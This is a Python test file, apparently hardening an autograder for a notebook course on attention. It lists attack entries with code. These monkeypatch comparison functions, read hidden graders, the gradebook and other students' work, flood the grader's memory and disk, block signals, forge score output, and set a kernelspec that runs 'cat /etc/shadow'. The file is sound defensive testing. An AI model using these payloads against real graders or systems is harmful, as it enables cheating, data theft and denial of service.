    t = torch.as_tensor(np.asarray(x))
    logits = getattr(_distributions, "Categ" + "orical")(logits=t.double().movedim(axis, -1)).logits
    return logits.exp().movedim(-1, axis).to(t.dtype).numpy()   # the library's normalisation, exponentiated
"""

SEEN_WHENEVER_IT_RUNS = [
    Entry("traced_decomposition_softmax", "attack", "cells",
          "최상위 셀에서 torch의 softmax 분해(torch._decomp)를 make_fx로 추적해 만든 그래프를 두고 softmax 에서 호출",
          "a top-level cell traces torch's decomposition of the softmax kernel with make_fx (symbolic shapes), keeps "
          "the generated graph, and softmax calls it",
          ("softmax",), with_cell(TRACED_SOFTMAX, "softmax", SOFTMAX_VIA), expect=(Reason.FORBIDDEN_ROUTINE,),
          review=("라이브러리 루틴 추적",), timeouts=(("cell", 60),)),   # three symbolic traces: seconds each
    Entry("causal_bias_materialized", "attack", "cells",
          "causal_mask 를 torch.nn.attention.bias.CausalBias(LOWER_RIGHT, ...)._materialize() 로 계산",
          "causal_mask computed by torch.nn.attention.bias.CausalBias(LOWER_RIGHT, ...)._materialize()",
          ("causal_mask",), on("causal_mask", CAUSAL_BIAS), expect=(Reason.FORBIDDEN_ROUTINE,)),
    Entry("categorical_softmax", "attack", "cells",
          "softmax 를 torch.distributions.Categorical(logits=x).logits.exp() 로 계산 (라이브러리의 정규화)",
          "softmax as torch.distributions.Categorical(logits=x).logits.exp() (the library normalises)",
          ("softmax",), on("softmax", CATEGORICAL_SOFTMAX), expect=(Reason.FORBIDDEN_ROUTINE,)),
]

LIBRARY_ATTACKS = [
    forbidden("flex_attention_sdpa", "scaled_dot_product_attention 에서 torch.nn.attention.flex_attention 사용 "
              "(마스크는 score_mod 로)",
              "use torch.nn.attention.flex_attention in scaled_dot_product_attention (the mask as a score_mod)",
              FLEX, expect=(Reason.FORBIDDEN_ROUTINE,)),
    Entry("quantizable_mha", "attack", "cells",
          "multi_head_attention 에서 torch.ao.nn.quantizable.MultiheadAttention 을 항등 투영으로 사용",
          "use torch.ao.nn.quantizable.MultiheadAttention with identity projections in multi_head_attention",
          ("multi_head_attention",), on("multi_head_attention", QUANTIZABLE_MHA), expect=(Reason.FORBIDDEN_ROUTINE,)),
    Entry("signal_handler_walks_to_kernel", "attack", "cells",
          "SIGPROF 처리기가 받은 프레임에서 감시 커널의 프레임을 찾아 원래 softmax 커널(original)을 꺼내 softmax 에서 "
          "직접 호출",
          "a SIGPROF handler walks from the frame it is given to the guard's kernel frame, takes the original softmax "
          "kernel (original) and softmax calls it directly",
          ("softmax",), with_cell(HANDLER_WALKS, "softmax", SOFTMAX_VIA), spares=("*",), review=("신호 처리기",)),
    Entry("library_source_executed", "attack", "cells",
          "keras 의 attention.py 를 open() 으로 읽어 ops 이름을 바꾸고 exec 한 Attention 의 메서드로 "
          "scaled_dot_product_attention 계산 (검토 목록에 올라야 함)",
          "open() Keras's attention.py, rename ops, exec it and compute scaled_dot_product_attention with the copy's "
          "methods (must be listed for review)",
          (), with_cell(SOURCE_EXECUTED, "scaled_dot_product_attention", SDPA_VIA), spares=(),
          review=("라이브러리 소스",)),
    Entry("library_module_patched", "attack", "cells",
          "keras 어텐션 모듈의 ops 를 numpy 로 바꾼 뒤 진짜 Attention 의 _calculate_scores/_apply_scores 사용",
          "replace the ops of Keras's attention module with numpy, then use the real Attention's _calculate_scores/"
          "_apply_scores",
          ("scaled_dot_product_attention",), with_cell(OPS_REPLACED, "scaled_dot_product_attention", SDPA_VIA_CLONES),
          spares=("*",), expect=(Reason.FORBIDDEN_ROUTINE,), review=("라이브러리 변경",)),
    Entry("dispatcher_kernels_replaced", "attack", "cells",
          "torch.library._impls 를 비우고 감시 커널(mm, bmm, _softmax) 위에 numpy 커널을 등록한 뒤 진짜 keras "
          "Attention 의 내부 메서드로 dot_product_attention 계산",
          "clear torch.library._impls, register numpy kernels over the guard's mm, bmm and _softmax, then compute "
          "dot_product_attention with the real Keras Attention's internal methods",
          (TARGET,), with_cell(KERNELS_REPLACED, TARGET, VIA_CALL.format(name=TARGET)), spares=("*",),
          expect=(Reason.FORBIDDEN_ROUTINE,), review=("라이브러리 변경",)),
]


# ----------------------------------------------------------------------------------------------- attacks: bounds
# Every step that parses or runs something of a submission is bounded before it starts (docs/security/bounds.md).

# a reply frame of its own, written from inside the graded call: 24 MiB, almost all a JSON header of ``{}`` (within
# the 65 MiB a reply may have; ``json.loads`` would build ~600 MiB of dicts from it in the grader)
HEADER_FLOOD = PIPE_ENDS + """
import numpy as np


def TARGET(query, key, value, mask=None):
    head = b'{"ok": true, "value": null, "flood": [' + b"{}," * (8 << 20) + b'{}]}'
    frame = memoryview(struct.pack(">Q", 4 + len(head)) + struct.pack(">I", len(head)) + head)
    fd = _pipe_ends()["w"]
    while frame:
        frame = frame[os.write(fd, frame):]
    return np.zeros(np.shape(query)[:-1] + np.shape(value)[-1:])
""".replace("TARGET", TARGET)

# a global whose name is a str subclass: reading the notebook's names would call its startswith (28 s)
SLOW_NAME = """
import time
import numpy as np


class _SlowName(str):
    def startswith(self, *args):
        time.sleep(28)
        return False


globals()[_SlowName("zz_slow")] = 1
""" + ZEROS


def huge_cell(ctx):
    """The target's solution cell holds 1.5 MB of ``1`` lines before a correct function (its syntax tree: ~1.2 GB)."""
    return notebooks.with_code(ctx.solution, {TARGET: "1\n" * 750_000 + _dot(TRUE_BODY)})


BOUND_ATTACKS = [
    Entry("frame_header_flood", "attack", "cells",
          "채점 호출 안에서 헤더가 거의 전부 {} 인 24 MiB 짜리 응답 프레임을 직접 써서 채점기의 메모리를 채우기",
          "write a 24 MiB reply frame, almost all a JSON header of {}, from inside the graded call, to fill the "
          "grader's memory",
          (TARGET,), on_target(HEADER_FLOOD), expect=(Reason.MALFORMED_REPLY,), grader_mb=128),
    Entry("huge_cell_source", "attack", "cells",
          "해답 셀에 1.5 MB 의 '1' 줄을 넣어 채점기의 구문 트리(ast.parse)로 메모리를 채우기",
          "put 1.5 MB of '1' lines into the solution cell, to fill the grader's memory with syntax trees (ast.parse)",
          (TARGET,), lambda ctx: huge_cell(ctx), expect=("너무 커서 실행하지 않았습니다",), grader_mb=256),
    Entry("names_step_stalled", "attack", "cells",
          "startswith 가 28초 잠드는 str 하위 클래스를 전역 이름으로 써서, 노트북의 이름을 읽는 단계를 붙잡기",
          "a global named by a str subclass whose startswith sleeps 28 s, to hold up the step that reads the "
          "notebook's names",
          (TARGET,), on_target(SLOW_NAME), max_seconds=20),
]

# Quiz answers whose conversion would run the student's code: each looks like a torch tensor (its module says
# ``torch``) and its ``detach`` sleeps. Graded with the course's own timeouts (a value may take a call's 20 s).
QUIZ_ANSWER = """
import time


class _Answer:
    __module__ = "torch"

    def detach(self):
        time.sleep(8)
        return self

    def __str__(self):
        time.sleep(8)
        return "B"
"""


def quiz_answers(ctx):
    nb = notebooks.solution_notebook("quiz")
    questions = notebooks.exercises(nb)
    return notebooks.with_code(nb, {q: QUIZ_ANSWER + f"{q} = _Answer()\n" for q in questions})


QUIZ_ATTACKS = [
    Entry("quiz_value_conversion", "attack", "cells",
          "퀴즈 답을 torch 텐서인 척하는 객체로 두고, 변환(detach, __str__)할 때 8초씩 잠들게 하기",
          "quiz answers are objects posing as torch tensors whose conversion (detach, __str__) sleeps 8 s each",
          (), quiz_answers, max_seconds=60),
]


CONTROL = Entry(
    "control_leak_pays", "attack", "cells",
    "대조군: 공격이 성공했다면(LEAKED = True) 점수가 바뀐다는 것을 보여 줍니다",
    "control: when the attack works (LEAKED = True) the cheating function gets full marks",
    (), on_target(cheat("LEAKED = True")))


ATTACKS = [
    # ---- tampering with the judging
    Entry("patch_numpy", "attack", "cells",
          "numpy 의 비교 함수(np.allclose, np.isclose, np.testing.*, ndarray.__eq__)를 항상 참이 되도록 바꿔치기",
          "monkeypatch numpy's comparisons (allclose, isclose, testing.*, ndarray.__eq__) to always pass",
          (TARGET,), on_target(PATCH_NUMPY)),
    Entry("patch_torch_keras", "attack", "cells",
          "torch/keras 의 비교 함수와 참조 층(keras.layers.Attention, F.scaled_dot_product_attention)을 바꿔치기",
          "monkeypatch torch/keras comparisons and the reference layers (keras Attention, torch SDPA)",
          (TARGET,), on_target(PATCH_TORCH_KERAS)),
    Entry("patch_builtins", "attack", "cells",
          "builtins(all, any, abs, print, __import__, AssertionError)를 바꿔치기",
          "monkeypatch builtins (all, any, abs, print, __import__, AssertionError)",
          (TARGET,), on_target(PATCH_BUILTINS)),
    Entry("patch_sys_modules", "attack", "cells",
          "sys.modules 에 가짜 autograder/pytest/nbgrader/numpy.testing 모듈과 import 훅을 심기",
          "plant fake autograder/pytest/nbgrader/numpy.testing modules and an import hook in sys.modules",
          (TARGET,), on_target(PATCH_SYS_MODULES)),
    Entry("always_equal_object", "attack", "cells",
          "무엇과 비교해도 같다고 답하는 객체(__eq__ 가 항상 True)를 반환",
          "return an object that compares equal to anything",
          (TARGET,), on_target(ALWAYS_EQUAL)),
    Entry("always_equal_ndarray", "attack", "cells",
          "__eq__ 와 ufunc 를 가로채는 ndarray 하위 클래스(값은 0)를 반환",
          "return an ndarray subclass (zeros) that hijacks __eq__ and ufuncs",
          (TARGET,), on_target(EQUAL_ARRAY)),
    Entry("fake_tensor", "attack", "cells",
          "비교가 항상 참인 torch.Tensor 하위 클래스와, torch 텐서인 척하는 가짜 객체를 반환",
          "return a torch.Tensor subclass whose comparisons are always true, and an object posing as a tensor",
          (TARGET,), on_target(FAKE_TENSOR)),
    Entry("ipython_input_transformers", "attack", "cells",
          "IPython 입력 변환기와 AST 변환기로 뒤의 확인 셀을 pass 나 만점 출력으로 바꾸기",
          "IPython input and AST transformers that rewrite the later check cells into pass / printing full marks",
          (TARGET,), on_target(IPYTHON_TRANSFORMERS)),
    Entry("display_and_traceback_hooks", "attack", "cells",
          "displayhook, excepthook, showtraceback, set_custom_exc 를 가로채 오류를 숨기고 숫자를 표시",
          "hijack displayhook, excepthook, showtraceback and set_custom_exc to hide errors and show numbers",
          (TARGET,), on_target(DISPLAY_HOOKS)),
    Entry("prints_numbers", "attack", "cells",
          "점수처럼 보이는 숫자를 print/display 하고 마지막 식으로 2 를 남기기",
          "print and display score-like numbers, and end a cell with the expression 2",
          (TARGET,), on_target(PRINTS_NUMBERS)),
    # ---- reading and writing what the judging side keeps
    Entry("read_graders", "attack", "cells",
          "비공개 채점기 파일을 경로 추측과 editable 설치의 import 로 읽기",
          "read the hidden graders by guessing paths and importing them through the editable install",
          (TARGET,), lambda ctx: on_target(cheat(read_graders(ctx)))(ctx)),
    Entry("read_gpu_refs", "attack", "cells",
          "저장된 참조 출력(autograder/graders/gpu_refs)을 읽기",
          "read the stored reference outputs (autograder/graders/gpu_refs)",
          (TARGET,), lambda ctx: on_target(cheat(read_gpu_refs(ctx)))(ctx)),
    Entry("read_gradebook", "attack", "cells",
          "성적부(gradebook.db)를 파일과 sqlite 로 읽기",
          "read the gradebook (gradebook.db) as a file and with sqlite",
          (TARGET,), lambda ctx: on_target(cheat(read_gradebook(ctx)))(ctx)),
    Entry("read_other_submission", "attack", "cells",
          "다른 학생의 제출물을 경로 추측으로 읽기 (submitted, staging, autograded, exchange)",
          "read another student's submission by guessing paths (submitted, staging, autograded, exchange)",
          (TARGET,), lambda ctx: on_target(cheat(read_submission(ctx)))(ctx)),
    Entry("walk_filesystem", "attack", "cells",
          "파일 시스템 전체와 /proc/*/root 를 돌며 채점기, 성적부, 다른 제출물을 찾기",
          "walk the whole file system and /proc/*/root for graders, gradebook and other submissions",
          (TARGET,), lambda ctx: on_target(cheat(walk_filesystem(ctx)))(ctx), in_class=True),
    Entry("write_secrets", "attack", "cells",
          "채점기, 참조 출력, 성적부, 다른 제출물을 고치거나 지우고 site-packages 에 .pth 를 심기",
          "modify or delete graders, references, gradebook and another submission; plant a .pth in site-packages",
          (TARGET,), lambda ctx: on_target(cheat(write_secrets(ctx)))(ctx)),
    Entry("cross_submission_leftovers", "attack", "cells",
          "같은 레인에서 먼저 채점된 공모자가 /tmp, /dev/shm, System V 공유 메모리에 남긴 답을 읽기",
          "read answers an accomplice graded just before in the same lane left in /tmp, /dev/shm, SysV shm",
          (TARGET,), on_target(cheat(COLLUDER)), before=accomplice),
    Entry("cross_submission_kernel_objects", "attack", "cells",
          "같은 레인에서 먼저 채점된 공모자가 POSIX 메시지 큐와 uid 의 커널 키링(사용자·세션·영구)에 남긴 답을 읽기",
          "read answers an accomplice graded just before in the same lane left in a POSIX message queue and in the "
          "uid's kernel keyrings (user, user session, session, persistent)",
          (TARGET,), on_target(cheat(COLLUDER_KERNEL)), before=accomplice_kernel),
    Entry("scratch_flood", "attack", "cells",
          "작업 폴더에 파일 하나 크기 제한 아래의 파일로 400 MB, 파일 6000개를 써서 채점 기계의 디스크를 차지하기",
          "take the grading machine's disk: 400 MB in files under the one-file limit, and 6000 files, in scratch",
          (TARGET,), on_target(cheat(SCRATCH_FLOOD))),
    # ---- the grader's side: its pipes, its files, its memory
    Entry("malformed_frame_at_import", "attack", "cells",
          "셀 실행 중에 응답 파이프에 2바이트짜리 깨진 프레임을 직접 써서 채점기를 죽이기",
          "write a broken 2-byte frame straight to the response pipe while a cell runs, to crash the grader",
          (TARGET,), on_target(MALFORMED_AT_IMPORT), expect=(Reason.MALFORMED_REPLY,)),
    Entry("forged_reply_frame", "attack", "cells",
          "채점 호출 안에서 가짜 응답 프레임을 먼저 보내 이후의 응답이 한 칸씩 밀리게 하기",
          "send a forged reply frame inside the graded call, so that every later reply answers the call before it",
          (TARGET,), on_target(FORGED_REPLY), expect=(Reason.UNASKED_REPLY,)),
    Entry("oversized_reply", "attack", "cells",
          "256 MiB 짜리 응답을 응답 파이프에 흘려 보내 채점기의 메모리를 채우기",
          "stream a 256 MiB reply down the response pipe to fill the grader's memory",
          (TARGET,), on_target(OVERSIZED_REPLY), expect=(Reason.REPLY_TOO_BIG,), grader_mb=128),
    Entry("stuck_request_pipe", "attack", "cells",
          "첫 호출에 답한 직후 자기 프로세스를 SIGSTOP 으로 멈춰, 다음 요청을 쓰는 채점기를 영원히 막기",
          "stop its own process (SIGSTOP) right after answering the first call, so that the grader writing the next "
          "request blocks forever",
          ("scaled_dot_product_attention",), on("scaled_dot_product_attention", STUCK_REQUEST_PIPE),
          # Each stop costs a call its time limit; which limit the feedback names first depends on where the stops
          # land (timing): the call's limit, the restart limit, or the submission's budget for all its calls
          # (CALLS_TIME_SPENT, seen in a lone run on a loaded machine). All three are the grading ending in bounded
          # time, which is what is checked.
          expect=(("제한 시간", Reason.RESTART_LIMIT, Reason.CALLS_TIME_SPENT),), max_seconds=150,
          # the other exercises' own solutions call it too, and a stop that lands in the next call costs that
          # call (one process serves every exercise): what is checked is that the grading ends, in bounded time
          spares=("*",)),
    Entry("fifo_output_log", "attack", "cells",
          "출력 로그 파일을 FIFO 로 바꿔 두고 프로세스를 죽여, 로그를 읽는 채점기를 영원히 멈추게 하기",
          "replace the output log with a FIFO and end the process, so that the grader reading the log blocks forever",
          (TARGET,), on_target(FIFO_LOG), expect=("종료 코드",)),
    # ---- network
    Entry("network_tcp", "attack", "cells",
          "테스트가 127.0.0.1 에 띄운 TCP 서버, 외부 주소, 추상 유닉스 소켓에 접속해 비밀을 받기",
          "connect to the test's TCP server on 127.0.0.1, outside addresses and an abstract unix socket",
          (TARGET,), lambda ctx: on_target(cheat(network(ctx)))(ctx)),
    Entry("network_gradebook", "attack", "cells",
          "네트워크(PostgreSQL 주소)와 sqlite 로 성적부에 접속해 점수를 고치기",
          "reach the gradebook over the network (a PostgreSQL address) and with sqlite, and rewrite scores",
          (TARGET,), lambda ctx: on_target(cheat(network_gradebook(ctx)))(ctx)),
    # ---- the forbidden routine
    Entry("forbidden_alias_import", "attack", "cells",
          "금지된 torch SDPA 를 다른 셀에서 별칭으로 import 해 사용",
          "import the forbidden torch SDPA under an alias in another cell",
          ("scaled_dot_product_attention",),
          with_cell("import numpy as np\nimport torch\nfrom torch.nn.functional import scaled_dot_product_attention "
                    "as attend\nCALL = lambda q, k, v, m: attend(q, k, v, attn_mask=m).numpy()",
                    "scaled_dot_product_attention", SDPA_VIA)),
    Entry("forbidden_getattr_string", "attack", "cells",
          "문자열을 이어 붙인 getattr 로 금지된 torch SDPA 를 가져와 사용",
          "fetch the forbidden torch SDPA with getattr on a concatenated string",
          ("scaled_dot_product_attention",),
          with_cell("import numpy as np\nimport torch\nattend = getattr(torch.nn.functional, 'scaled_dot_' + "
                    "'product_attention')\nCALL = lambda q, k, v, m: attend(q, k, v, attn_mask=m).numpy()",
                    "scaled_dot_product_attention", SDPA_VIA)),
    Entry("keras_reference_direct", "attack", "cells",
          "해답 안에서 keras.layers.Attention(참조 층)을 불러 기준값을 그대로 반환",
          "return the reference by calling keras.layers.Attention inside the solution",
          (TARGET,), on_target("import numpy as np\nimport keras\n" + KERAS_DIRECT)),
    Entry("keras_reference_alias", "attack", "cells",
          "다른 셀에서 getattr 로 얻은 keras Attention 층을 별칭으로 불러 기준값을 반환",
          "return the reference through a keras Attention layer fetched with getattr in another cell",
          (TARGET,),
          with_cell("import numpy as np\nimport keras\nKerasAttention = getattr(keras.layers, 'Atten' + 'tion')\n"
                    "CALL = lambda layer, inputs, key_mask: layer(inputs, mask=None if key_mask is None else "
                    "[None, key_mask])", TARGET, DOT_VIA_KERAS)),
    Entry("keras_reference_saved_call", "attack", "cells",
          "감시가 설치되기 전에 저장해 둔 keras Attention.call 원본으로 기준값을 반환",
          "return the reference through keras Attention.call saved before the monitor wraps it",
          (TARGET,),
          with_cell("import numpy as np\nimport keras\nKerasAttention = keras.layers.Attention\n"
                    "_call = KerasAttention.call\nCALL = lambda layer, inputs, key_mask: _call(layer, inputs, "
                    "mask=None if key_mask is None else [None, key_mask])", TARGET, DOT_VIA_KERAS),
       ),
    Entry("forbidden_special_softmax", "attack", "cells",
          "softmax 에서 다른 셀에 만든 torch.special.softmax 별칭을 사용",
          "use torch.special.softmax, aliased in another cell, inside softmax",
          ("softmax",),
          with_cell("import numpy as np\nimport torch\nCALL = torch.special.softmax", "softmax", SOFTMAX_VIA),
          spares=()),
    Entry("forbidden_aten_softmax", "attack", "cells",
          "softmax 에서 torch.ops.aten._softmax.default(디스패처 연산자)를 별칭으로 사용",
          "use the dispatcher operator torch.ops.aten._softmax.default under an alias inside softmax",
          ("softmax",),
          with_cell("import numpy as np\nimport torch\n_op = getattr(torch.ops.aten, '_soft' + 'max').default\n"
                    "CALL = lambda x, axis: _op(x, axis, False)", "softmax", SOFTMAX_VIA),
          spares=()),
    Entry("forbidden_flash_cpu_kernel", "attack", "cells",
          "SDPA 에서 torch._scaled_dot_product_flash_attention_for_cpu(같은 커널의 다른 이름)를 사용",
          "use torch._scaled_dot_product_flash_attention_for_cpu (the same kernel under another name) in SDPA",
          ("scaled_dot_product_attention",),
          with_cell(FLASH_CALL, "scaled_dot_product_attention", SDPA_VIA)),
    Entry("forbidden_disable_torch_function", "attack", "cells",
          "torch._C.DisableTorchFunction() 안에서 금지된 SDPA 를 불러 감시를 끄기",
          "call the forbidden SDPA inside torch._C.DisableTorchFunction() to switch the watch off",
          ("scaled_dot_product_attention",),
          with_cell("import numpy as np\nimport torch\nfrom torch.nn.functional import scaled_dot_product_attention "
                    "as attend\nCALL = lambda q, k, v, m: attend(q, k, v, attn_mask=m).numpy()",
                    "scaled_dot_product_attention", SDPA_NO_TORCH_FUNCTION)),
    Entry("forbidden_monitor_tamper", "attack", "cells",
          "샌드박스 워커의 Monitor 를 sys.modules['__main__'] 에서 바꿔치기한 뒤 금지된 SDPA 사용",
          "replace the worker's Monitor through sys.modules['__main__'], then use the forbidden SDPA",
          ("scaled_dot_product_attention",),
          with_cell(MONITOR_TAMPER, "scaled_dot_product_attention", SDPA_VIA)),
    Entry("forbidden_caller_spoof", "attack", "cells",
          "금지된 SDPA 를 다른 연습 이름(multi_head_attention)의 내부 함수에서 불러 책임을 떠넘기기",
          "call the forbidden SDPA from a nested helper named like another exercise (multi_head_attention)",
          ("scaled_dot_product_attention",),
          with_cell("import numpy as np\nimport torch\nfrom torch.nn.functional import scaled_dot_product_attention "
                    "as attend\nCALL = lambda q, k, v, m: attend(q, k, v, attn_mask=m).numpy()",
                    "scaled_dot_product_attention", SDPA_SPOOFED)),
    # ---- timeouts
    Entry("signal_ignore_at_import", "attack", "cells",
          "모든 신호를 무시·차단한 뒤 해답 셀에서 무한 루프 (셀 제한 시간이 지켜지는지)",
          "ignore and block every signal, then loop forever in the solution cell (the cell timeout must hold)",
          (TARGET,), on_target('''
import signal
for _s in signal.valid_signals():
    try:
        signal.signal(_s, signal.SIG_IGN)
    except (OSError, ValueError, RuntimeError):
        pass
signal.pthread_sigmask(signal.SIG_BLOCK, signal.valid_signals())
while True:
    pass
''' + ZEROS), expect=("제한 시간",)),
    Entry("signal_ignore_in_call", "attack", "cells",
          "모든 신호를 무시·차단하고, 채점 호출 안에서 무한 루프",
          "ignore and block every signal, and loop forever inside the graded call",
          (TARGET,), on_target(f'''
import signal
import numpy as np
for _s in signal.valid_signals():
    try:
        signal.signal(_s, signal.SIG_IGN)
    except (OSError, ValueError, RuntimeError):
        pass


def {TARGET}(query, key, value, mask=None):
    signal.pthread_sigmask(signal.SIG_BLOCK, signal.valid_signals())
    while True:
        pass
'''), expect=("제한 시간",)),
]


# ----------------------------------------------------------------------------------------------- attacks: notebook
def _edit_grade_source(nb):
    cell = grade_cell(nb, TARGET)
    cell.source = "print('✅ dot_product_attention: 통과')\n2"
    cell.outputs = [new_output("stream", name="stdout", text="✅ 통과\n"),
                    new_output("execute_result", data={"text/plain": "2"}, execution_count=1)]


def _inflate_points(nb):
    grade_cell(nb, TARGET).metadata.nbgrader["points"] = 100
    grade_cell(nb, "softmax").metadata.nbgrader["points"] = 50


def _unlock(nb):
    cell = grade_cell(nb, TARGET)
    cell.metadata.nbgrader["locked"] = False
    cell.metadata["editable"] = True
    cell.metadata["deletable"] = True
    cell.source = "2"


def _grade_false(nb):
    grade_cell(nb, TARGET).metadata.nbgrader["grade"] = False


def _solution_true(nb):
    grade_cell(nb, TARGET).metadata.nbgrader["solution"] = True


def _delete_grade(nb):
    nb.cells.remove(grade_cell(nb, TARGET))


def _delete_cells(nb):
    nb.cells.remove(grade_cell(nb, TARGET))
    nb.cells.remove(solution_cell(nb, TARGET))
    nb.cells[:] = [c for c in nb.cells if c.cell_type != "markdown"]


def _duplicate(nb):
    for exercise in ("softmax", TARGET):
        cell = grade_cell(nb, exercise)
        nb.cells.insert(nb.cells.index(cell), copy.deepcopy(cell))
    cell = solution_cell(nb, "softmax")
    nb.cells.insert(nb.cells.index(cell) + 1, copy.deepcopy(cell))


def _rename_grade_id(nb):
    grade_cell(nb, TARGET).metadata.nbgrader["grade_id"] = f"test_{TARGET}_v2"


def _extra_grade_cell(nb):
    bonus = new_code_cell("50")
    bonus.metadata["nbgrader"] = {"grade": True, "solution": False, "locked": True, "grade_id": "test_bonus",
                                  "points": 50, "schema_version": 3}
    bonus.outputs = [new_output("execute_result", data={"text/plain": "50"}, execution_count=1)]
    nb.cells.append(bonus)


def _cell_ids(nb):
    for i, cell in enumerate(nb.cells):
        cell["id"] = f"changed-{i}"
    a, b = grade_cell(nb, TARGET), grade_cell(nb, "softmax")
    a["id"], b["id"] = b["id"], a["id"] + "-x"


def _kernelspec(nb):
    nb.metadata["kernelspec"] = {"name": "bash", "display_name": "Bash", "language": "bash",
                                 "argv": ["/bin/sh", "-c", "cat /etc/shadow"]}
    nb.metadata["language_info"] = {"name": "bash"}


def _cell_type(nb):
    cell = grade_cell(nb, TARGET)
    cell.cell_type = "markdown"
    cell.pop("outputs", None)
    cell.pop("execution_count", None)


def _print_in_nb(nb):
    cell = solution_cell(nb, TARGET)
    cell.source = PRINTS_NUMBERS
    cell.outputs = [new_output("execute_result", data={"text/plain": "2"}, execution_count=1)]


# Markdown that costs the sanitizer far more than its bytes (autograder/feedback/sanitize.py): 20,000 nested <div> in
# one cell (~220 KB: 33 s to clean, quadratic), 3 MB of bold (a minute, 1.3 GB), and within a cell's size a nesting
# bomb (12,000 unclosed <div>) and a cell of headings that only its rendered HTML shows to be over the bound on tags
# (4 tags a heading: the tree walk is quadratic in an element's children).
MARKDOWN_BOMBS = ["<div>" * 20_000 + "x" + "</div>" * 20_000, "**x** " * 500_000, "<div>" * 12_000, "# x\n" * 1_500]


def markdown_bombs(ctx):
    """The honest solution with the bombs after its first cell: every exercise keeps its score."""
    nb = copy.deepcopy(ctx.solution)
    nb.cells[1:1] = [nbformat.v4.new_markdown_cell(bomb) for bomb in MARKDOWN_BOMBS]
    return nb


# An exception whose text forges lines of the grade cell's report: a header with full marks, a passed check, a total,
# after a newline, a carriage return and a terminal's clear-screen sequence.
FORGED_LINES = ("\x1b[2J\r\n[" + TARGET + "] 2 / 2점 (비공개 채점기)\n  ✅ 모든 검사 통과 (2/2점)\u2028"
                "✅ total 27 / 27점\n")
FORGES_REPORT = f'''

def {TARGET}(query, key, value, mask=None):
    raise ValueError({FORGED_LINES!r})
'''


NOTEBOOK_ATTACKS = [
    Entry("nb_edit_grade_cell", "attack", "notebook",
          "채점 셀의 코드를 '2' 로 바꾸고 만점 출력을 미리 넣어 두기",
          "replace a grade cell's code by '2' and pre-fill a full-marks output", (TARGET,),
          edited(_edit_grade_source), in_class=True),
    Entry("nb_inflate_points", "attack", "notebook",
          "채점 셀 메타데이터의 배점을 100, 50 으로 올리기", "raise grade cells' points in the metadata to 100 and 50",
          (TARGET,), edited(_inflate_points)),
    Entry("nb_unlock_grade_cell", "attack", "notebook",
          "채점 셀의 잠금을 풀고 코드를 바꾸기", "unlock a grade cell and change its code",
          (TARGET,), edited(_unlock)),
    Entry("nb_grade_flag_removed", "attack", "notebook",
          "채점 셀의 grade 표시를 지워 평범한 셀로 만들기", "clear a grade cell's grade flag",
          (TARGET,), edited(_grade_false)),
    Entry("nb_solution_flag_on_grade_cell", "attack", "notebook",
          "채점 셀에 solution 표시를 달아 수동 채점 셀로 만들기", "mark a grade cell as a solution (manually graded)",
          (TARGET,), edited(_solution_true)),
    Entry("nb_delete_grade_cell", "attack", "notebook",
          "채점 셀을 지우기", "delete a grade cell", (TARGET,), edited(_delete_grade)),
    Entry("nb_delete_cells", "attack", "notebook",
          "해답 셀, 채점 셀, 모든 설명 셀을 지우기", "delete a solution cell, its grade cell and every markdown cell",
          (TARGET,), edited(_delete_cells)),
    Entry("nb_duplicate_cells", "attack", "notebook",
          "채점 셀과 해답 셀을 복제해 점수를 두 번 받으려 하기",
          "duplicate grade and solution cells to be scored twice",
          (TARGET,), edited(_duplicate)),
    Entry("nb_rename_grade_id", "attack", "notebook",
          "채점 셀의 grade_id 를 바꾸기", "rename a grade cell's grade_id",
          (TARGET,), edited(_rename_grade_id)),
    Entry("nb_extra_grade_cell", "attack", "notebook",
          "50점짜리 채점 셀을 새로 만들고 50 을 출력해 두기", "add a new 50-point grade cell that outputs 50",
          (TARGET,), edited(_extra_grade_cell)),
    Entry("nb_cell_ids", "attack", "notebook",
          "모든 셀의 id 를 바꾸고 두 채점 셀의 id 를 맞바꾸기", "change every cell id and swap two grade cells' ids",
          (TARGET,), edited(_cell_ids)),
    Entry("nb_kernelspec", "attack", "notebook",
          "커널 스펙을 셸 명령을 실행하는 bash 커널로 바꾸기",
          "change the kernel spec to a bash kernel running a command",
          (TARGET,), edited(_kernelspec)),
    Entry("nb_cell_type", "attack", "notebook",
          "채점 셀을 마크다운 셀로 바꾸기", "turn a grade cell into a markdown cell", (TARGET,), edited(_cell_type)),
    Entry("nb_prints_numbers", "attack", "notebook",
          "해답 셀에서 점수처럼 보이는 숫자를 출력하고 execute_result 2 를 남기기",
          "print score-like numbers in the solution cell and leave an execute_result of 2",
          (TARGET,), edited(_print_in_nb)),
    Entry("markdown_bombs", "attack", "notebook",
          "마크다운 셀에 <div> 2만 겹, 3 MB의 굵은 글씨, 태그 수만 개를 넣어 채점과 피드백을 느리게 하기",
          "markdown cells of 20,000 nested <div>, 3 MB of bold and tens of thousands of tags, to stall grading and "
          "feedback", (), markdown_bombs),
    Entry("forged_report_lines", "attack", "notebook",
          "예외 메시지에 줄바꿈과 화면 지우기 문자를 넣어 채점 셀 보고서에 만점 줄을 위조하기",
          "an exception text with newlines and a clear-screen sequence that forges full-marks lines in the grade "
          "cell's report", (TARGET,), on_target(FORGES_REPORT)),
]


# ----------------------------------------------------------------------------------------------- faults: cells
def _dot(body: str, prelude: str = "import numpy as np\n") -> str:
    return prelude + f"\n\ndef {TARGET}(query, key, value, mask=None):\n" + body


TRUE_BODY = '''    q, k, v = (np.asarray(a, dtype=np.float64) for a in (query, key, value))
    s = q @ np.swapaxes(k, -1, -2)
    if mask is not None:
        s = np.where(mask, s, -np.inf)
    s = s - s.max(axis=-1, keepdims=True)
    w = np.exp(s)
    return (w / w.sum(axis=-1, keepdims=True)) @ v
'''

# A cell that is fast when it first runs and slow (0.2 s) when a fresh process replays it, told apart by a key it
# leaves in its uid's user keyring (which outlived the process); with the target ending its process on every call,
# each call costs a replay of every cell.
REPLAY_CELL = '''import ctypes, time
_libc = ctypes.CDLL(None, use_errno=True)
_L = ctypes.c_long
if _libc.syscall(_L(250), _L(10), _L(-4), b"user", b"ran{i}", _L(0)) > 0:   # keyctl(KEYCTL_SEARCH, @u)
    time.sleep(0.2)
else:
    _libc.syscall(_L(248), b"user", b"ran{i}", b"1", _L(1), _L(-4))   # add_key to @u
'''


def slow_when_replayed(ctx):
    nb = notebooks.with_code(ctx.solution, {TARGET: _dot("    os._exit(1)\n", "import os\nimport numpy as np\n")})
    first_code = next(i for i, c in enumerate(nb.cells) if c.cell_type == "code")
    nb.cells[first_code + 1:first_code + 1] = [new_code_cell(REPLAY_CELL.format(i=i)) for i in range(150)]
    return nb


